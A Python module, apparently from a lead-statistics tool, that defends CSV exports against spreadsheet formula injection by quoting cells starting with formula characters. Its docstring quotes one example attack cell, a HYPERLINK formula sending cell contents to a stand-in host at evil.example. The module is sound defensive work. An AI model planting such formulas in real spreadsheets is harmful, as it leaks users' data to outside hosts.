"""CSV cells that a spreadsheet will not run as formulas (OWASP "CSV Injection").

Every CSV leadstats writes (report downloads, ``report --format csv``, the AI export pack) passes its
cells through :func:`safe_cell`. Values come from public web forms (``utm_term``, ``cta``, ``referer``),
so a cell such as ``=HYPERLINK("https://evil.example?"&A1)`` must not reach Excel, LibreOffice or
Google Sheets as a formula. The OWASP recommendation is followed: a *text* cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote (``'=HYPERLINK(...)``), which
spreadsheets show as text; the csv module then quotes the cell where needed. A carriage return inside
text is written as a line feed, which the csv module quotes (it leaves a lone CR unquoted, and a
spreadsheet would start a new row, and possibly a formula, there). Numbers (ints, floats,
including negative ones such as a change of ``-12``) are written unchanged: they are numbers, never
formulas, and a quote would turn them into text.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

#: Leading characters that make a spreadsheet treat a cell as a formula (OWASP CSV Injection).
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` ready for :mod:`csv`: None is empty, booleans are ``true``/``false``, numbers stay
    numbers, and text that a spreadsheet would run as a formula starts with ``'``.

    >>> [safe_cell(v) for v in ("=1+1", "-cmd", "@SUM(A1)", "\\tx", "plain", -12, 1.5, None, True)]
    ["'=1+1", "'-cmd", "'@SUM(A1)", "'\\tx", 'plain', -12, 1.5, '', 'true']
    >>> safe_cell("a\\r=cmd")
    'a\\n=cmd'
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str):
        if value.startswith(FORMULA_PREFIXES):
            value = "'" + value
        if "\r" in value:  # the csv module quotes \n but not a lone \r, where spreadsheets split rows
            value = value.replace("\r\n", "\n").replace("\r", "\n")
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of one CSV row through :func:`safe_cell`."""
    return [safe_cell(v) for v in values]
